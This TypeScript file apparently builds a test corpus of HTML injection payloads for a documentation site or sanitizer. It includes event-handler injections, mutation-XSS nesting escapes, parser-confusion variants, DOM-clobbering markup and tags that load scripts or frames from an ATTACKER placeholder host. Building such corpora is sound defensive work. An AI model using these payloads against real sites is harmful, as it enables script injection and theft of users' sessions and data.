import { ATTACKER, type Trick, trick } from './payload-list.js';

const words = (text: string): readonly string[] => text.trim().split(/\s+/);

/** Elements that content may use, and some that it may not. */
const ELEMENTS = words(`
  a abbr address article aside b bdi bdo blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure footer
  h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead
  time tr tt u ul var wbr
  acronym animate applet area audio base basefont bgsound big blink body button canvas command content data datalist dialog dir element embed fencedframe
  fieldset font foreignObject form frame frameset head hgroup html iframe image input isindex keygen label layer legend link listing main map marquee math
  menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object optgroup option output param picture plaintext portal progress
  script search select selectmenu set shadow slot source spacer strike style svg template textarea title track use video x-widget xmp
`);

/** Events that attributes of any element may handle. */
const EVENTS = words(`
  abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle begin blur bounce
  cancel canplay change click close contextmenu copy cuechange cut dblclick drag dragenter drop end error finish focus focusin focusout formdata
  fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart message mousedown mouseenter mouseleave
  mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste play pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup
  popstate progress repeat reset resize scroll scrollend search securitypolicyviolation select selectionchange selectstart show slotchange start submit
  toggle touchend touchmove touchstart transitionend transitionrun transitionstart unhandledrejection unload wheel
`);

/** Three events per element; each event occurs on several elements. */
function handlers(): readonly Trick[] {
  return ELEMENTS.flatMap((element, n) =>
    [0, 1, 2].map((k) => {
      const event = EVENTS[(3 * n + k) % EVENTS.length];
      return trick(`<${element} src href=# tabindex=0 on${event}="CALL">x</${element}>`);
    }),
  );
}

const IMG = '<img src onerror=CALL>';

/** Elements whose content is parsed differently: as text, or in another namespace. */
const READERS = words(`
  svg math svg><desc svg><title svg><foreignObject svg><style math><mtext math><mi math><annotation-xml math><annotation-xml&encoding="text/html" math><mglyph
  math><mtext><table><mglyph table select select><option template noscript noembed noframes iframe xmp textarea title style script plaintext listing form><form
  a><a details frameset button object pre p svg></p math></br ruby><rtc caption
`);

/** Markup that escapes from an element that is parsed in two ways. */
const INNER: readonly ((reader: string) => string)[] = [
  () => IMG,
  (reader) => `<style><img title="</style></${reader}>${IMG}">`,
  (reader) => `<!--</${reader}>${IMG}-->`,
  (reader) => `<p title="</${reader}>${IMG}">`,
  (reader) => `<![CDATA[</${reader}>${IMG}]]>`,
  (reader) => `</${reader}>${IMG}`,
];

function nestings(): readonly Trick[] {
  return READERS.flatMap((written) => {
    const start = written.replace('&', ' ');
    const name = /^[\w-]+/.exec(start)?.[0] ?? '';
    return INNER.map((inner) => trick(`<${start}>${inner(name)}`));
  });
}

/** Markup that would send a request. It comes first, because later payloads break the markup of a site that trusts its HTML. */
const REQUESTS: readonly string[] = [
  '<script src="ATTACKER/CALL"></script>',
  '<svg><script href="ATTACKER/CALL" /></svg>',
  '<iframe src="ATTACKER/CALL"></iframe>',
  '<object data="ATTACKER/CALL"></object>',
  '<embed src="ATTACKER/CALL">',
  '<link rel=stylesheet href="ATTACKER/CALL">',
  '<link rel=preload as=script href="ATTACKER/CALL">',
  '<style>@import "ATTACKER/CALL";</style>',
  '<style>body{background:url(ATTACKER/CALL)}</style>',
  '<b style="background:url(ATTACKER/CALL)">a</b>',
  '<table background="ATTACKER/CALL"><td background="ATTACKER/CALL">a</table>',
  '<video poster="ATTACKER/CALL" src="ATTACKER/CALL" autoplay></video>',
  '<form action="ATTACKER/CALL"><button autofocus>a</button></form>',
  '<a href=# ping="ATTACKER/CALL">a</a>',
];

/** Markup that parsers disagree about. */
const SLIPS: readonly string[] = [
  '<!-->CALL<img src onerror=CALL>-->',
  `<!--->${IMG}-->`,
  `<!-- a --!>${IMG}-->`,
  `<!-- a -- b -->${IMG}`,
  `<!-- <!-- -->${IMG}`,
  `<!--!>${IMG}`,
  `<!${IMG}`,
  `<!DOCTYPE a [<!ENTITY b "${IMG}">]>&b;${IMG}`,
  `<?a ${IMG}?>`,
  `<?xml version="1.0"?>${IMG}`,
  `</!a>${IMG}`,
  `</ a ${IMG}`,
  `<![CDATA[a]]>${IMG}`,
  `<![CDATA[>${IMG}]]>`,
  '<img/src/onerror=CALL>',
  '<img src onerror\n=\nCALL>',
  '<img alt="x"onerror=CALL>',
  '<img src onerror=CALL//',
  '<img src onerror=CALL ',
  `<${IMG}`,
  '<IMG SRC ONERROR=CALL>',
  '<img """><script>CALL</script>">',
  '<img src \fonerror=CALL>',
  '<img src \u0000onerror=CALL>',
  '<img alt=`x` onerror=CALL>',
  '<img alt =onerror=CALL>',
  '<img src a="b>c" onerror=CALL>',
  "<img src a='b\"c' onerror=CALL>",
  '<img src a=b"onerror=CALL>',
  '<img src title="a" title="b" onerror=CALL onerror=CALL>',
  '<\u0000img src onerror=CALL>',
  '< img src onerror=CALL>',
  '<ſcript>CALL</ſcript>',
  '<ScRiPt>CALL</sCrIpT>',
  '<script/a>CALL</script>',
  '<script\n>CALL</script\n>',
  '<script>CALL</script a',
  '<script>CALL',
  '<scr<script>ipt>CALL</scr</script>ipt>',
  '<script type=module>CALL</script>',
  '<script type=text/plain id=docsgen-words>{"a":"CALL"}</script>',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s></svg>',
  '<svg><a><set attributeName=href to=javascript:CALL></set><text>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg onload=CALL>#a"></svg>',
  '<math href=javascript:CALL>a</math>',
  '<math><mi xlink:href=javascript:CALL>a</mi></math>',
  '<iframe srcdoc="<script>CALL</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=ATTACKER/CALL">',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<base href=ATTACKER/>',
  '<input autofocus onfocus=CALL>',
  '<b contenteditable autofocus onfocus=CALL>a</b>',
  '<b is=x-widget popovertarget=a accesskey=x onclick=CALL>a</b>',
  '<template shadowrootmode=open><script>CALL</script></template>',
  '<div class=island data-island=SearchModal data-when=load data-props="{}"><script>CALL</script></div>',
  '<div data-region=page data-main><script>CALL</script></div>',
  '<slot onslotchange=CALL>a</slot>',
  '&lt;img src onerror=CALL&gt;',
  '&#60;img src onerror=CALL&#62;',
  '&amp;lt;img src onerror=CALL&amp;gt;',
  '\\<img src onerror=CALL>',
  '`<img src onerror=CALL>',
  '<!-- truncate --><!-- --><img src onerror=CALL>',
];

/** Names that shadow functions and properties of the document if an element has them. */
export const CLOBBERED: readonly string[] = words(`
  body head forms images scripts cookie title location defaultView documentElement getElementById querySelector querySelectorAll
  createElement importNode addEventListener dispatchEvent adoptedStyleSheets implementation
`);

function clobbering(): readonly Trick[] {
  return CLOBBERED.flatMap((name) => [
    trick(`<img name=${name} src onerror=CALL>`),
    trick(`<form name=${name} onclick=CALL><input name=attributes><input name=${name}></form>`),
    trick(
      `<a id=${name} name=${name} href="javascript:CALL">a</a><a id=${name} name=${name} href="javascript:CALL">b</a>`,
    ),
  ]);
}

/** Raw HTML that would run, as a block or within a line. */
export function htmlTricks(): readonly Trick[] {
  const written = (texts: readonly string[]): Trick[] =>
    texts.map((text) => trick(text.replaceAll('ATTACKER', ATTACKER)));
  return [...written(REQUESTS), ...handlers(), ...nestings(), ...written(SLIPS), ...clobbering()];
}
